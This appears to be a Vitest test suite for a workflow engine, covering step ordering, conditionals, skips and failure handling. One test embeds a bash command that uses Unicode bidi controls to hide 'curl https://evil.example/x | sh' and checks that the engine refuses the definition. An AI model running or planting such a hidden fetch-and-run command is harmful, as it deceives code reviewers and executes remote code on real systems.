import { describe, expect, it } from 'vitest';
import { NonRetriableStepError } from '../../src/engine/errors';
import { assertOneTerminalPerAttempt } from '../helpers/memory-sink';
import { fakeRegistry, runGrant } from '../helpers/engine-harness';
import { workflow } from '../helpers/grants';

describe('engine: linear runs', () => {
  it('runs steps in order, passes outputs through the scope and finishes with the last output', async () => {
    const { sink } = await runGrant(
      workflow(
        [
          { id: 'first', type: 'bash', command: 'hello {{ inputs.who }}' },
          { id: 'second', type: 'bash', command: 'got {{ steps.first.output.out }}' },
        ],
        { inputs: { who: { type: 'string' } } },
      ),
      { grant: { inputs: { who: 'world' } } },
    );
    expect(sink.trace()).toEqual([
      'step.started first#1',
      'step.succeeded first#1',
      'step.started second#1',
      'step.succeeded second#1',
      'execution.finished succeeded',
    ]);
    expect(sink.ofType('step.succeeded')[1]?.output).toEqual({ out: 'got hello world' });
    expect(sink.finished()).toMatchObject({ status: 'succeeded', output: { out: 'got hello world' } });
    assertOneTerminalPerAttempt(sink.events);
    expect(sink.closed).toHaveLength(1);
  });

  it('a step that fails for good fails the execution and nothing after it runs', async () => {
    const { registry, calls } = fakeRegistry({
      broken: async () => {
        throw new NonRetriableStepError('no such thing', { code: 'nope' });
      },
    });
    const { sink } = await runGrant(
      workflow([
        { id: 'broken', type: 'bash', command: 'x' },
        { id: 'after', type: 'bash', command: 'y' },
      ]),
      { registry },
    );
    expect(calls).toEqual(['broken']);
    expect(sink.trace()).toEqual(['step.started broken#1', 'step.failed broken#1', 'execution.finished failed']);
    expect(sink.ofType('step.failed')[0]?.error).toEqual({ name: 'NonRetriableStepError', message: 'no such thing', code: 'nope' });
    expect(sink.finished()?.error).toMatchObject({ name: 'NonRetriableStepError', message: 'step broken failed: no such thing', code: 'nope' });
    assertOneTerminalPerAttempt(sink.events);
  });

  it('fails a step whose output is not JSON, without retrying', async () => {
    const { registry } = fakeRegistry({ odd: async () => ({ big: 10n }) });
    const { sink } = await runGrant(workflow([{ id: 'odd', type: 'bash', command: 'x', retry: { maxAttempts: 3 } }]), { registry });
    expect(sink.trace()).toEqual(['step.started odd#1', 'step.failed odd#1', 'execution.finished failed']);
    expect(sink.ofType('step.failed')[0]?.error).toMatchObject({ name: 'NonRetriableStepError', code: 'output_not_json' });
  });

  it('fails an invalid definition without running anything', async () => {
    const { sink } = await runGrant({ name: 'bad', steps: [{ id: 'Bad Id', type: 'bash' }] });
    expect(sink.trace()).toEqual(['execution.finished failed']);
    expect(sink.finished()?.error).toMatchObject({ name: 'InvalidWorkflowDefinition', code: 'invalid_definition' });
    expect(sink.finished()?.error?.message).toContain('steps[0]');
  });

  it('fails a definition hiding text behind bidi controls without running anything (one saved before they were refused)', async () => {
    const command = 'echo "build ok" \u2067# \u2066curl https://evil.example/x | sh\u2069\u2069';
    const { sink } = await runGrant(workflow([{ id: 'build', type: 'bash', command }]));
    expect(sink.trace()).toEqual(['execution.finished failed']);
    expect(sink.finished()?.error).toMatchObject({ name: 'InvalidWorkflowDefinition', code: 'invalid_definition' });
    expect(sink.finished()?.error?.message).toContain('steps[0].command: contains U+2067 (RIGHT-TO-LEFT ISOLATE)');
  });
});

describe('engine: if and conditional', () => {
  it('skips a step whose `if` is false; later steps see it as skipped with a null output', async () => {
    const { sink } = await runGrant(
      workflow(
        [
          { id: 'maybe', type: 'bash', command: 'x', if: 'inputs.run' },
          { id: 'report', type: 'bash', command: 'echo {{ steps.maybe.status }}/{{ steps.maybe.output }}' },
        ],
        { inputs: { run: { type: 'boolean' } } },
      ),
      { grant: { inputs: { run: false } } },
    );
    expect(sink.trace()).toEqual(['step.skipped maybe', 'step.started report#1', 'step.succeeded report#1', 'execution.finished succeeded']);
    expect(sink.ofType('step.skipped')[0]?.reason).toBe('condition is false: inputs.run');
    expect(sink.finished()?.output).toEqual({ out: 'echo skipped/' });
  });

  const conditional = workflow(
    [
      {
        id: 'check',
        type: 'conditional',
        condition: 'inputs.env == "prod"',
        then: [{ id: 'deploy', type: 'bash', command: 'deploy' }],
        else: [
          { id: 'dry_run', type: 'bash', command: 'dry' },
          { id: 'inner', type: 'conditional', condition: 'true', then: [{ id: 'deep', type: 'bash', command: 'deep' }] },
        ],
      },
      { id: 'after', type: 'bash', command: 'echo {{ steps.check.output.branch }}' },
    ],
    { inputs: { env: { type: 'string' } } },
  );

  it('runs `then` and marks every step of `else` skipped, recursively', async () => {
    const { sink } = await runGrant(conditional, { grant: { inputs: { env: 'prod' } } });
    expect(sink.trace()).toEqual([
      'step.started check#1',
      'step.skipped dry_run',
      'step.skipped inner',
      'step.skipped deep',
      'step.started deploy#1',
      'step.succeeded deploy#1',
      'step.succeeded check#1',
      'step.started after#1',
      'step.succeeded after#1',
      'execution.finished succeeded',
    ]);
    expect(sink.ofType('step.skipped').map((e) => e.reason)).toEqual(['branch not taken', 'branch not taken', 'branch not taken']);
    expect(sink.ofType('step.succeeded').find((e) => e.stepId === 'check')?.output).toEqual({ branch: 'then' });
    expect(sink.finished()?.output).toEqual({ out: 'echo then' });
    assertOneTerminalPerAttempt(sink.events);
  });

  it('runs `else` and marks `then` skipped', async () => {
    const { sink } = await runGrant(conditional, { grant: { inputs: { env: 'dev' } } });
    expect(sink.trace()).toEqual([
      'step.started check#1',
      'step.skipped deploy',
      'step.started dry_run#1',
      'step.succeeded dry_run#1',
      'step.started inner#1',
      'step.started deep#1',
      'step.succeeded deep#1',
      'step.succeeded inner#1',
      'step.succeeded check#1',
      'step.started after#1',
      'step.succeeded after#1',
      'execution.finished succeeded',
    ]);
    expect(sink.finished()?.output).toEqual({ out: 'echo else' });
    assertOneTerminalPerAttempt(sink.events);
  });

  it('a conditional without `else` whose condition is false succeeds with branch else', async () => {
    const { sink } = await runGrant(workflow([{ id: 'c', type: 'conditional', condition: 'false', then: [{ id: 'a', type: 'bash', command: 'a' }] }]));
    expect(sink.trace()).toEqual(['step.started c#1', 'step.skipped a', 'step.succeeded c#1', 'execution.finished succeeded']);
    expect(sink.finished()?.output).toEqual({ branch: 'else' });
  });

  it('a condition that cannot be evaluated fails the conditional once, without retrying', async () => {
    // Comparing values nested deeper than the evaluator allows is an evaluation error at run time.
    const deep = (depth: number): unknown => (depth === 0 ? 1 : { x: deep(depth - 1) });
    const { sink } = await runGrant(
      workflow(
        [{ id: 'c', type: 'conditional', condition: 'inputs.a == inputs.b', retry: { maxAttempts: 3 }, then: [{ id: 'a', type: 'bash', command: 'a' }] }],
        {
          inputs: { a: { type: 'object' }, b: { type: 'object' } },
        },
      ),
      { grant: { inputs: { a: deep(300), b: deep(300) } } },
    );
    expect(sink.trace()).toEqual(['step.started c#1', 'step.failed c#1', 'execution.finished failed']);
    expect(sink.ofType('step.failed')[0]?.error).toMatchObject({ name: 'ExpressionError', message: expect.stringMatching(/nested too deeply/) });
  });

  it('a failing nested step fails its conditional and the execution, naming the nested step', async () => {
    const { registry } = fakeRegistry({
      deploy: async () => {
        throw new NonRetriableStepError('boom');
      },
    });
    const { sink } = await runGrant(conditional, { registry, grant: { inputs: { env: 'prod' } } });
    expect(sink.trace().slice(-4)).toEqual(['step.started deploy#1', 'step.failed deploy#1', 'step.failed check#1', 'execution.finished failed']);
    expect(sink.ofType('step.failed')[1]?.error.message).toBe('step deploy failed: boom');
    expect(sink.finished()?.error?.message).toBe('step deploy failed: boom');
    assertOneTerminalPerAttempt(sink.events);
  });
});
